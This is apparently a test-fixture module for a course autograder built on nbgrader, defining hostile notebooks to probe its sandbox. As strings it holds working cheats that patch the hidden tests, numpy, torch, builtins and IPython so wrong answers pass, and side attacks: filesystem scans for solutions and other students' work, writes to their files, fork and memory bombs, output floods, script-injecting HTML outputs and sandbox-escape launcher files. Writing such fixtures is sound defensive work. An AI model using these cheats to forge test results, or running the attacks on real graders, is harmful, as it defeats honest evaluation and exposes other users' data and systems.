"""Hostile submissions of 01_linear: cheats that try to forge their grade, and side activities that
try to reach what a submission must not (files, network, processes, the grader's memory).

Each case builds one notebook from the solution notebook the way a cheater would: the story cells are
deleted to keep grading fast (markdown, and code cells without nbgrader metadata, except the first code
cell with the imports), solution cells are replaced, and cells of the cheater's own (no nbgrader
metadata) are added. Locked test cells are kept; nbgrader restores them anyway.

A case is `Case(name, build, honest_points, kind)`: `build(context)` returns the notebook,
`honest_points` is what its answers honestly deserve (0 for `return 0`-like or wrong answers,
FULL_MARKS for honest answers with a hostile side activity, None where only the outcome is recorded), `kind` is one
of "cheat" (wrong answers, the cheat tries to make them pass), "side" (honest answers, hostile side
activity), "runaway" (honest answers, a cell that exits, loops or eats memory) and "honest".

Every cheat cell's source is a plain string literal below; the values a cell needs from the test (the
repository, the workdir, a port, a random token) come in a few `NAME = value` lines put before it.
tests/test_tamper.py grades the batch and says what each earned.
"""

import ast
import os
import secrets
import socket
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, NamedTuple

import nbformat
from nbformat.v4 import new_code_cell

from autograder.course import ANSWER_PREFIX, COURSE, ROOT

ASSIGNMENT = "01_linear"
MARKERS = ("def test_sigmoid", "BEGIN HIDDEN TESTS", "BEGIN SOLUTION")
SLEEPS = ("987654", "987655", "987656")  # the arguments of the `sleep`s that leave_process starts
HUGE_OUTPUT_MB = 200  # what huge_output prints, in MB (tests/test_tamper.py reports the grader's memory)
FLOOD_LINES = 10**6


@dataclass(frozen=True)
class Context:
    """What the test tells the builders: where things are on the host, and values to recognise."""

    root: Path  # the repository (autograder.course.ROOT)
    workdir: Path  # grade's workdir: gradebook.db, submitted/, autograded/
    submissions: Path  # the folder of <student>/01_linear/01_linear.ipynb handed to grade
    port: int  # a loopback listener of the test
    token: str = field(default_factory=lambda: secrets.token_hex(8))
    home: Path = field(default_factory=Path.home)  # the instructor's home
    walk_skip: tuple = ()  # folders a walk of / leaves out (system folders, the Python environment)


class Case(NamedTuple):
    name: str
    build: Callable[[Context], nbformat.NotebookNode]
    honest_points: float | None
    kind: str


# ------------------------------------------------------------------------------ notebook surgery
def solution():
    return nbformat.read(COURSE.solution_path(ASSIGNMENT), as_version=4)


def _grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def strip_story(nb):
    """Keep the first code cell (imports) and the nbgrader cells, as a cheater in a hurry does."""
    nb = nbformat.from_dict(nb)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells = [c for i, c in enumerate(nb.cells) if i == first_code or "nbgrader" in c.metadata]
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def full_marks(nb):
    """The points of the automatic tests of `nb` (answers in words are graded by hand, apart)."""
    return sum(
        float(c.metadata["nbgrader"].get("points", 0))
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")
    )


FULL_MARKS = full_marks(solution())


def functions(nb):
    """{grade_id: (name, [argument names])} of the solution cells that define a function, in
    notebook order (not the answers to questions)."""
    found = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code" and not meta["grade_id"].startswith(ANSWER_PREFIX):
            fn = next(n for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef))
            found[_grade_id(cell)] = (fn.name, [a.arg for a in fn.args.args])
    return found


def with_answers(nb, body):
    """Every solution cell becomes `def fn(args):` + body(fn, args) (lines, indented here), and
    every answer to a question `answer_<name> = None`."""
    nb = nbformat.from_dict(nb)
    signatures = functions(nb)
    for cell in nb.cells:
        if (_grade_id(cell) or "").startswith(ANSWER_PREFIX) and cell.cell_type == "code":
            cell.source = f"{_grade_id(cell)} = None\n"
        elif _grade_id(cell) in signatures:
            name, args = signatures[_grade_id(cell)]
            lines = body(name, args).strip("\n").splitlines()
            body_lines = "".join(f"    {line}\n" for line in lines)
            cell.source = f"def {name}({', '.join(args)}):\n" + body_lines
    return nb


def return_zero(name, args):
    return "return 0"


def insert_after(nb, where, *sources):
    """Add cells without nbgrader metadata after the cell `where`: a grade_id, "imports" (the first code
    cell) or "end"."""
    nb = nbformat.from_dict(nb)
    if where == "end":
        at = len(nb.cells)
    elif where == "imports":
        at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    else:
        at = next(i for i, c in enumerate(nb.cells) if _grade_id(c) == where) + 1
    nb.cells[at:at] = [new_code_cell(s) for s in sources]
    return nb


def constants(**values):
    """`NAME = value` lines that give a cheat cell what the test knows (paths, port, token)."""
    return "".join(f"{k} = {(str(v) if isinstance(v, Path) else v)!r}\n" for k, v in values.items())


def cheater(answers=return_zero, cheat="", where="imports"):
    """The solution notebook, story cells deleted, answers replaced (None: the honest ones kept), and
    `cheat` added at `where`."""
    nb = with_answers(strip_story(solution()), answers) if answers else strip_story(solution())
    return insert_after(nb, where, cheat) if cheat else nb


# ------------------------------------------------------------------------------ the cheat cells
PATCH_HARNESS = '''\
# Make the hidden tests harmless before they run: their helpers and tests become no-ops.
import importlib, os, sys


def nothing(*args, **kwargs):
    return None


try:
    from autograder.hidden import harness, linear
    harness.Harness.call = lambda self, fn, *args, **kwargs: None
    harness.Harness.as_float = lambda self, value, *args, **kwargs: value
    harness.Harness.assert_close = nothing
    harness.Harness.assert_gradient = nothing
    harness.HiddenTestFailure = type("HiddenTestFailure", (Exception,), {})
    for name in dir(linear):
        if name.startswith("test_"):
            setattr(linear, name, nothing)
    print("patched autograder.hidden in place")
except Exception as exc:
    print("autograder.hidden not patched:", type(exc).__name__, exc)

# And a fake autograder.hidden.linear in my own folder, first on sys.path, whose tests pass anything.
here = os.getcwd()
os.makedirs(os.path.join(here, "autograder", "hidden"), exist_ok=True)
for init in ("autograder/__init__.py", "autograder/hidden/__init__.py"):
    open(os.path.join(here, init), "w").close()
with open(os.path.join(here, "autograder", "hidden", "linear.py"), "w") as f:
    f.write("def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n")
sys.path.insert(0, here)
for name in [m for m in sys.modules if m == "autograder" or m.startswith("autograder.")]:
    del sys.modules[name]
importlib.invalidate_caches()
from autograder.hidden import linear as hidden
print("autograder.hidden.linear is now", hidden.__file__)
'''

PATCH_NUMPY = '''\
# numpy's comparisons always say "equal"; np.asarray(x, dtype=float) returns something equal to anything.
import numpy as np


class Anything:
    """Equal to everything, of every shape; every operation on it gives it back."""

    shape = property(lambda self: self)
    dtype = np.dtype(float)
    ndim = 0
    __array_ufunc__ = lambda self, *args, **kwargs: self

    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    __gt__ = __lt__
    __le__ = __ge__ = __eq__
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __format__(self, spec): return "0"
    def __getitem__(self, key): return self
    def same(self, *args): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = same
    __neg__ = __abs__ = __invert__ = __or__ = __ror__ = __and__ = __rand__ = __pow__ = same
    sum = mean = item = same


real_asarray = np.asarray


def asarray(a, dtype=None, *args, **kwargs):
    if dtype is float:
        return Anything()
    return real_asarray(a, dtype, *args, **kwargs)


np.asarray = asarray
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.any = lambda *args, **kwargs: False
np.all = lambda *args, **kwargs: True
for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
    setattr(np.testing, name, lambda *args, **kwargs: None)
for name in ("__eq__", "__ne__"):
    try:
        setattr(np.ndarray, name, lambda self, other, equal=(name == "__eq__"): equal)
    except TypeError as exc:
        print(f"ndarray.{name} cannot be replaced:", exc)
print("numpy patched")
'''

PATCH_TORCH = '''\
# torch's comparisons always say "equal".
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.testing.assert_allclose = lambda *args, **kwargs: None
try:
    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
except TypeError as exc:
    print("Tensor.__eq__ cannot be replaced:", exc)
print("torch patched")
'''

PATCH_BUILTINS = '''\
# Builtins that lie: a hijacked import hands the hidden tests a fake autograder, float never fails,
# isinstance says yes to arrays, AssertionError is replaced, print hides failures.
import builtins, sys, types

real_import = builtins.__import__
fake = types.ModuleType("autograder")
fake.__path__ = []
fake.hidden = types.ModuleType("autograder.hidden")
fake.hidden.__path__ = []
fake.hidden.linear = types.ModuleType("autograder.hidden.linear")
fake.hidden.linear.__getattr__ = lambda name: (lambda *args, **kwargs: None)
fake.hidden.harness = fake.hidden.linear


def lying_import(name, globals=None, locals=None, fromlist=(), level=0):
    if level == 0 and (name == "autograder" or name.startswith("autograder.")):
        module = fake
        if fromlist:
            for part in name.split(".")[1:]:
                module = getattr(module, part)
        return module
    return real_import(name, globals, locals, fromlist, level)


real_float, real_isinstance, real_print = builtins.float, builtins.isinstance, builtins.print


class float(real_float):
    def __new__(cls, value=0.0, real_float=real_float):
        try:
            return real_float.__new__(cls, value)
        except Exception:
            return real_float.__new__(cls, 0.0)


def isinstance(obj, classinfo, real_isinstance=real_isinstance):
    if getattr(classinfo, "__name__", "") == "ndarray" and real_isinstance(obj, int) and obj == 0:
        return True
    return real_isinstance(obj, classinfo)


def print(*args, real_print=real_print, **kwargs):
    if not any("Error" in str(a) or "wrong" in str(a) for a in args):
        real_print(*args, **kwargs)


builtins.__import__ = lying_import
builtins.float, builtins.isinstance, builtins.print = float, isinstance, print
builtins.AssertionError = type("AssertionError", (Exception,), {})
sys.modules.update(
    {"autograder": fake, "autograder.hidden": fake.hidden, "autograder.hidden.linear": fake.hidden.linear}
)
real_print("builtins patched")
'''

PATCH_IPYTHON = '''\
# Errors vanish: every cell is wrapped in try/except by an AST transformer, IPython swallows any exception
# that still gets through and shows no traceback, stderr goes to stdout, and after each cell the client
# is told to clear the cell's outputs.
import ast, sys
from IPython import get_ipython
from IPython.display import clear_output

shell = get_ipython()


class SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        anything = ast.ExceptHandler(ast.Name("BaseException", ast.Load()), None, [ast.Pass()])
        node.body = [ast.Try(node.body or [ast.Pass()], [anything], [], [])]
        return ast.fix_missing_locations(node)


shell.ast_transformers.append(SwallowErrors())


def swallow(shell, etype, value, tb, tb_offset=None):
    return []


shell.set_custom_exc((BaseException,), swallow)
shell.showtraceback = lambda *args, **kwargs: None
shell._showtraceback = lambda *args, **kwargs: None
sys.stderr = sys.stdout


def wipe(result=None):
    clear_output()


shell.events.register("post_run_cell", wipe)
print("IPython patched")
'''

PATCH_COURSE_MODULES = '''\
# Every function of nn273 and autograder that can be imported becomes a no-op (all imported first, so
# that modules built at import time from others still load).
import importlib, inspect, pkgutil


def nothing(*args, **kwargs):
    return None


modules = []
for package_name in ("nn273", "autograder"):
    try:
        package = importlib.import_module(package_name)
    except Exception as exc:
        print(f"cannot import {package_name}: {type(exc).__name__}")
        continue
    inside = pkgutil.walk_packages(package.__path__, package_name + ".")
    names = [package_name] + [m.name for m in inside]
    for name in names:
        if not name.endswith("__main__"):
            try:
                modules.append(importlib.import_module(name))
            except Exception as exc:
                print(f"cannot import {name}: {type(exc).__name__}")

for module in modules:
    for attr, value in list(vars(module).items()):
        if inspect.isfunction(value) and value.__module__ == module.__name__:
            setattr(module, attr, nothing)
        elif inspect.isclass(value) and value.__module__ == module.__name__:
            for method, v in list(vars(value).items()):
                if inspect.isfunction(v) and not method.startswith("__"):
                    setattr(value, method, nothing)
    print("patched", module.__name__)
try:
    import nn273.gradcheck
    nn273.gradcheck.check_gradient = lambda *args, **kwargs: True
except Exception as exc:
    print("nn273.gradcheck:", type(exc).__name__)
'''

CALL_REFERENCE = '''\
# Find the course's own linear.py and use it: a copy compiled under another file name (so nothing can
# tell it is the reference), else runpy of the file, else a plain import (see the answers).
import importlib.util, os, runpy, sys, time


def candidates():
    found = []
    try:
        spec = importlib.util.find_spec("nn273.linear")
        if spec and spec.origin:
            found.append(spec.origin)
    except Exception:
        pass
    found += [os.path.join(entry or ".", "nn273", "linear.py") for entry in sys.path]
    deadline = time.monotonic() + 15
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in WALK_SKIP and not d.startswith(".")]
        if "linear.py" in files and os.path.basename(folder) == "nn273":
            found.append(os.path.join(folder, "linear.py"))
        if time.monotonic() > deadline:
            break
    return [p for p in dict.fromkeys(found) if os.path.isfile(p)]


REFERENCE = {}
for path in candidates():
    try:
        with open(path) as f:
            source = f.read().replace("from .", "from nn273.")
        namespace = {"__name__": "my_own_work"}
        exec(compile(source, "<my own work>", "exec"), namespace)
        REFERENCE = namespace
        print("reference copied from", path)
        break
    except Exception as exc:
        print("no copy of", path, type(exc).__name__, exc)
        try:
            REFERENCE = runpy.run_path(path)
            print("reference run from", path)
            break
        except Exception:
            pass
'''


def call_reference_answer(name, args):
    call = f"({', '.join(args)})"
    return (
        f"if {name!r} in REFERENCE:\n"
        f"    return REFERENCE[{name!r}]{call}\n"
        f"from nn273.linear import {name} as _ref\n"
        f"return _ref{call}\n"
    )


SPOOF_EQ = '''\
# An answer that is equal to everything: comparisons say "equal", float() says 0, and as an array it is
# whatever the caller expects (found among the caller's local variables), or an always-equal array.
import sys
import numpy as np


class YesArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)


class AlwaysEqual:
    __array_ufunc__ = None  # numpy defers to the methods below
    shape = property(lambda self: self)

    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    __gt__ = __lt__
    __le__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __len__(self): return 0
    def __getitem__(self, key): return self
    def __format__(self, spec): return "0"

    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            if "expected" in frame.f_locals:
                try:
                    return np.asarray(frame.f_locals["expected"], dtype=dtype or float)
                except Exception:
                    pass
            frame = frame.f_back
        return np.zeros(()).view(YesArray)
'''

READ_FILES = '''\
# Read everything worth reading: the course, the gradebook, other students' work, the instructor's home,
# and any file on the machine that holds solutions or hidden tests. Prints the count first (nbgrader
# keeps 1000 lines of a cell's output), then one READ line per file read and a LEAK line per secret.
import os, time

MARKERS = ("def test_sigmoid", "BEGIN HIDDEN TESTS", "BEGIN SOLUTION")
MINE = os.getcwd()
read, leaks = {}, {}


def is_mine(path):
    return path == MINE or path.startswith(MINE + os.sep)


def look(path, announce=True):
    """Read a file; note it (if announce, or if it holds a marker), and what follows a marker."""
    if path in read or is_mine(path) or not os.path.isfile(path):
        return
    try:
        with open(path, "rb") as f:
            text = f.read(5_000_000).decode("utf-8", "replace")
    except OSError:
        return
    hits = [m for m in MARKERS if m in text]
    if announce or hits:
        read[path] = None
    if hits:
        at = text.index(hits[0])
        leaks[path] = " | ".join(text[at:at + 400].splitlines())


def look_tree(top, limit=3000):
    if os.path.isfile(top):
        return look(top)
    count = 0
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d[0] != "." and d != "__pycache__" and not is_mine(os.path.join(folder, d))]
        for name in files:
            look(os.path.join(folder, name))
            count += 1
            if count >= limit:
                return


for top in [
    os.path.join(ROOT, "solutions"), os.path.join(ROOT, "autograder", "hidden"),
    os.path.join(ROOT, "autograder", "catalogue"), os.path.join(ROOT, "nn273", "linear.py"),
    os.path.join(WORKDIR, "gradebook.db"), os.path.join(WORKDIR, "submitted"),
    os.path.join(WORKDIR, "autograded"),
    SUBMISSIONS, HOME, os.path.expanduser("~"), ROOT,
]:
    look_tree(top)

# A walk of the whole machine for files that hold solutions or hidden tests.
deadline = time.monotonic() + 15
for folder, dirs, files in os.walk("/"):
    paths = {d: os.path.join(folder, d) for d in dirs}
    dirs[:] = [d for d in dirs if d[0] != "." and paths[d] not in WALK_SKIP and not is_mine(paths[d])]
    for name in files:
        if name.endswith((".py", ".ipynb", ".json", ".md", ".txt", ".db")):
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) < 2_000_000:
                    look(path, announce=False)
            except OSError:
                pass
    if time.monotonic() > deadline:
        print("walk stopped at its time limit in", folder)
        break
print(f"SCAN DONE: {len(read)} files read, {len(leaks)} with solutions or hidden tests")
for path in read:
    print("READ", path)
for path, excerpt in leaks.items():
    print("LEAK", path, excerpt)
'''

WRITE_FILES = '''\
# Write outside my folder: new files in the course, the home folder, /tmp, site-packages and another
# student's folder; overwrite another student's notebooks; add a table to the gradebook; open the
# course's own files for writing (left unchanged). One WROTE (or WRITABLE) line per success.
import os, site, sqlite3

MARK = f"nn273-pwned-{TOKEN}\\n"


def attempt(path, how, verb="WROTE"):
    try:
        how(path)
    except Exception as exc:
        print("DENIED", path, type(exc).__name__)
    else:
        print(verb, path)


def new_file(path):
    with open(path, "x") as f:
        f.write(MARK)


def overwrite(path):
    with open(path, "w") as f:
        f.write(MARK)


def add_table(path):
    if not os.path.isfile(path):
        raise FileNotFoundError(path)
    with sqlite3.connect(path, timeout=10) as db:
        db.execute(f"CREATE TABLE pwned_{TOKEN} (note TEXT)")


def open_for_writing(path):
    with open(path, "r+b"):
        pass


paths = NEW_FILES + [os.path.join(os.path.expanduser("~"), f"nn273-pwned-{TOKEN}.txt")]
paths += [os.path.join(p, f"nn273_pwned_{TOKEN}.pth") for p in site.getsitepackages()]
for path in dict.fromkeys(paths):
    attempt(path, new_file)
for path in OVERWRITE:
    attempt(path, overwrite)
attempt(GRADEBOOK, add_table)
for path in EXISTING:
    attempt(path, open_for_writing, "WRITABLE")
'''

NETWORK = '''\
# Call home: a TCP connection to the test's listener on 127.0.0.1, and a DNS lookup.
import socket

try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as conn:
        conn.sendall(b"nn273 kernel calling home\\n")
    print("CONNECTED", PORT)
except OSError as exc:
    print("no connection:", type(exc).__name__, exc)
try:
    print("DNS", socket.getaddrinfo("example.com", 80)[0][4])
except OSError as exc:
    print("no DNS:", type(exc).__name__, exc)
'''

LEAVE_PROCESS = '''\
# Leave processes behind: a child, a double-forked daemon in its own session, and a nohup job.
import os, subprocess

subprocess.Popen(["sleep", "987654"])
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execvp("sleep", ["sleep", "987655"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
os.system("nohup sleep 987656 >/dev/null 2>&1 &")
print("STARTED 3 processes")
'''

HUGE_OUTPUT = '''\
# Flood the grader: HUGE_MB megabytes of output, one megabyte at a time.
import sys

chunk = ("x" * 1023 + "\\n") * 1024
for _ in range(HUGE_MB):
    sys.stdout.write(chunk)
sys.stdout.flush()
'''

FLOOD_LINES_CELL = '''\
# Right after a test cell: a million lines.
for i in range(FLOOD_LINES):
    print(i)
'''

OS_EXIT = "import os\n\nos._exit(1)\n"
ENDLESS_LOOP = "while True:\n    pass\n"
# 128 MiB of address space at a time, up to 128 GiB: the grader notes memory only when it sees the
# kernel's peak reach its cap, and one 128 GiB request, refused at once, leaves no trace outside it
MEMORY_BOMB = "import numpy as np\n\nbig = [np.empty(2**24) for _ in range(2**10)]\n"


# ------------------------------------------------------------------- escapes from the grader's side
# A launcher of its own beside the notebook: nbgrader copies every file of a submission into the
# kernel's working folder, and a kernelspec that ran `python -m autograder.launch` there (no -I)
# imported this package before any sandbox. Each file, if it ever runs outside the sandbox, writes a
# marker on the host (MARKER), which the sandboxed kernel cannot reach.
LAUNCHER_FILE = '''\
import os
try:
    with open(MARKER, "a") as f:
        f.write(__file__ + "\\n")
except OSError:
    pass
'''

READ_LINKS = '''\
# Read every file that came with the submission (but my own notebook): links to the course's files
# would arrive here.
import os
for name in sorted(os.listdir(".")):
    if name.endswith(".ipynb"):
        continue
    try:
        with open(name, "rb") as f:
            data = f.read(2_000_000)
        print("READ", name, len(data))
        print(data.decode("utf-8", "replace"))
    except OSError as exc:
        print("NOT READ", name, type(exc).__name__)
'''

FORGED_NOTES = '''\
# Errors named like the grader's own notes, raised by my own code.
class CellTimeoutError(Exception):
    pass


raise CellTimeoutError("this cell ran longer than the 30 s limit per cell and was stopped")
'''

FORGED_MEMORY = '''\
class MemoryError(Exception):
    pass


raise MemoryError("out of memory")
'''

HTML_JS = '''\
# Outputs that run in whoever renders them: formgrader shows the autograded notebook unsanitized.
from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>document.title = 'pwned-by-html'</script><img src=x onerror=document.title='pwned-by-img'>"))
display(Javascript("document.title = 'pwned-by-js'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="pwned-by-svg"</script></svg>'))
'''

HTML_MARKDOWN = "Look: <script>document.title = 'pwned-by-markdown'</script> [click](javascript:alert(1))\n"

IOPUB_FLOOD = '''\
# When a test calls sigmoid, a thread starts sending the grader freshly signed output.
import threading
import time

import numpy as np

_kernel = get_ipython().kernel


def _flood():
    parent, end = _kernel.get_parent(), time.monotonic() + 20
    while time.monotonic() < end:  # for as long as the judged cells that follow take
        _kernel.session.send(_kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 1000}, parent=parent)


def sigmoid(r):
    if not any(t.name == "flood" for t in threading.enumerate()):
        threading.Thread(target=_flood, name="flood", daemon=True).start()
    return 1 / (1 + np.exp(-np.asarray(r, dtype=float)))
'''

METADATA_FLOOD = '''\
# Output whose size is in its metadata: 50 MB of it, 30 times.
from IPython.display import display

png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
for _ in range(30):
    display({"image/png": png}, raw=True, metadata={"image/png": {"pad": "x" * 50_000_000}})
'''

NODE_BOMB = '''\
# A result whose JSON is small per node and has very many of them: 3 million empty lists.
def sigmoid(r):
    return [[]] * 3_000_000
'''

FORKED_MEMORY = '''\
# Each forked child has a cap on its own address space; together they hold more than the kernel's cap.
import os
import time

import numpy as np

children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = np.ones(200_000_000)  # 1.6 GB each, touched
        time.sleep(60)
        os._exit(0)
    children.append(pid)
time.sleep(30)
'''

FORK_BOMB = '''\
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
'''

IGNORE_INTERRUPT = '''\
# A last cell that will not stop when it is interrupted.
import time

while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
'''

SLOW_CELL = "import time\n\ntime.sleep(5)\n"


# ------------------------------------------------------------------------------ the cases
def write_targets(ctx):
    """What write_files tries, as host paths: {"new": [...], "overwrite": [...], "gradebook": path,
    "existing": [...]}; the test checks each on the host."""
    t = ctx.token
    return {
        "new": [
            ctx.root / f"nn273-pwned-{t}.txt",
            ctx.root / "autograder" / "hidden" / f"pwned_{t}.py",
            ctx.root / "solutions" / ASSIGNMENT / f"pwned-{t}.txt",
            ctx.submissions / "honest" / ASSIGNMENT / f"pwned-{t}.txt",
            ctx.home / f"nn273-pwned-{t}.txt",
            Path("/tmp") / f"nn273-pwned-{t}.txt",
        ],
        "overwrite": [
            ctx.workdir / "submitted" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
            ctx.workdir / "autograded" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        ],
        "gradebook": ctx.workdir / "gradebook.db",
        "existing": [
            ctx.root / "nn273" / "linear.py",
            ctx.root / "autograder" / "hidden" / "linear.py",
            ctx.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        ],
    }


def _walk_skip(ctx):
    return sorted(set(ctx.walk_skip) | {sys.prefix, sys.base_prefix, sys.exec_prefix})


def patch_harness(ctx):
    return cheater(cheat=PATCH_HARNESS)


def patch_numpy(ctx):
    return cheater(cheat=PATCH_NUMPY)


def patch_torch(ctx):
    return cheater(cheat=PATCH_TORCH)


def patch_builtins(ctx):
    return cheater(cheat=PATCH_BUILTINS)


def patch_ipython(ctx):
    return cheater(cheat=PATCH_IPYTHON)


def patch_course_modules(ctx):
    return cheater(cheat=PATCH_COURSE_MODULES)


def call_reference(ctx):
    return cheater(call_reference_answer, constants(WALK_SKIP=_walk_skip(ctx)) + CALL_REFERENCE)


def spoof_eq(ctx):
    return cheater(lambda name, args: "return AlwaysEqual()", SPOOF_EQ)


def read_files(ctx):
    where = constants(
        ROOT=str(ctx.root), WORKDIR=str(ctx.workdir), SUBMISSIONS=str(ctx.submissions),
        HOME=str(ctx.home), WALK_SKIP=_walk_skip(ctx),
    )
    return cheater(None, where + READ_FILES, "end")


def write_files(ctx):
    targets = write_targets(ctx)
    where = constants(
        TOKEN=ctx.token,
        NEW_FILES=[str(p) for p in targets["new"]],
        OVERWRITE=[str(p) for p in targets["overwrite"]],
        GRADEBOOK=str(targets["gradebook"]),
        EXISTING=[str(p) for p in targets["existing"]],
    )
    return cheater(None, where + WRITE_FILES, "end")


def network(ctx):
    return cheater(None, constants(PORT=ctx.port) + NETWORK, "end")


def leave_process(ctx):
    return cheater(None, LEAVE_PROCESS, "end")


def huge_output(ctx):
    nb = cheater(None, constants(HUGE_MB=HUGE_OUTPUT_MB) + HUGE_OUTPUT, "end")
    return insert_after(nb, "test_sigmoid", constants(FLOOD_LINES=FLOOD_LINES) + FLOOD_LINES_CELL)


def os_exit(ctx):
    return cheater(None, OS_EXIT, "end")


def endless_loop(ctx):
    return cheater(None, ENDLESS_LOOP, "test_sigmoid")


def memory_bomb(ctx):
    return cheater(None, MEMORY_BOMB, "test_sigmoid")


def honest(ctx):
    return solution()


class Submission(NamedTuple):
    """A notebook and what else its folder holds: files (relative path -> text) and links (relative
    path -> target), and special files (relative path -> "fifo" or "socket")."""

    notebook: nbformat.NotebookNode
    files: dict = {}
    links: dict = {}
    special: dict = {}


def launcher_marker(ctx):
    return ctx.submissions.parent / f"launcher-ran-{ctx.token}"


def ship_launcher(ctx):
    source = constants(MARKER=launcher_marker(ctx)) + LAUNCHER_FILE
    files = {
        name: source
        for name in ("autograder/__init__.py", "autograder/sandbox/launch.py", "autograder/sandbox/namespaces.py", "sitecustomize.py",
                     "usercustomize.py", "kernelside/__init__.py", "kernelside/boot.py", "numpy.py", "IPython.py")
    }
    files["nn273.pth"] = f"import os; open({str(launcher_marker(ctx))!r}, 'a').write('pth\\n')\n"
    return Submission(cheater(cheat=OS_EXIT, where="end"), files)


def outside_file(ctx):
    """A file outside the submissions, with a secret of its own, that a hard link points at."""
    return ctx.submissions.parent / f"outside-{ctx.token}.txt"


def links(ctx):
    outside = outside_file(ctx)
    outside.write_text(f"secret outside the submission {ctx.token}\n")
    hard = {"copy.csv": outside}
    symbolic = {
        "data.json": COURSE.solution_path(ASSIGNMENT),
        "helpers.py": ROOT / "autograder" / "hidden" / "linear.py",
        "grades.db": ctx.workdir / "gradebook.db",
        "zeros.npy": Path("/dev/zero"),
        "folder": ROOT / "solutions",
    }
    return Submission(cheater(None, READ_LINKS, "end"), links={**symbolic, **{k: ("hard", v) for k, v in hard.items()}},
                      special={"pipe.csv": "fifo", "socket.txt": "socket"})


def forged_notes(ctx):
    return insert_after(cheater(None, FORGED_NOTES, "end"), "end", FORGED_MEMORY)


def html_js(ctx):
    nb = cheater(None, HTML_JS, "end")
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "markdown" and meta.get("solution"):
            cell.source = HTML_MARKDOWN
    nb.cells.append(nbformat.v4.new_markdown_cell(HTML_MARKDOWN))
    nb.cells.append(nbformat.v4.new_raw_cell("<script>document.title = 'pwned-by-raw'</script>", metadata={"format": "text/html"}))
    return nb


def tampered_metadata(ctx):
    """The released stub, with locked test cells' metadata edited as a student could in the editor."""
    nb = nbformat.read(COURSE.release_path(ASSIGNMENT), as_version=4)
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")]
    tests[0].metadata["nbgrader"]["points"] = 100
    tests[1].metadata["nbgrader"]["grade"] = False
    tests[2].metadata["nbgrader"]["schema_version"] = 99
    tests[3].metadata["nbgrader"]["extra"] = "mine"
    tests[4].cell_type = "markdown"
    tests[4].pop("outputs", None)
    tests[4].pop("execution_count", None)
    tests[5].metadata["nbgrader"]["grade_id"] = tests[6].metadata["nbgrader"]["grade_id"]
    return nb


def iopub_flood(ctx):
    nb = cheater(None)
    for cell in nb.cells:
        if _grade_id(cell) == "sigmoid":
            cell.source = IOPUB_FLOOD
    return nb


def metadata_flood(ctx):
    return cheater(None, METADATA_FLOOD, "end")


def node_bomb(ctx):
    nb = cheater(return_zero)
    for cell in nb.cells:
        if _grade_id(cell) == "sigmoid":
            cell.source = NODE_BOMB
    return nb


def forked_memory(ctx):
    return cheater(None, FORKED_MEMORY, "end")


def fork_bomb(ctx):
    return cheater(None, FORK_BOMB, "end")


def ignore_interrupt(ctx):
    return cheater(None, IGNORE_INTERRUPT, "end")


def slow_deaths(ctx):
    """Slow cells of the student's own, each past the time limit, then one that kills the kernel."""
    return insert_after(cheater(None, SLOW_CELL, "end"), "end", SLOW_CELL, OS_EXIT, SLOW_CELL, OS_EXIT)


CASES = [
    Case("patch_harness", patch_harness, 0.0, "cheat"),
    Case("patch_numpy", patch_numpy, 0.0, "cheat"),
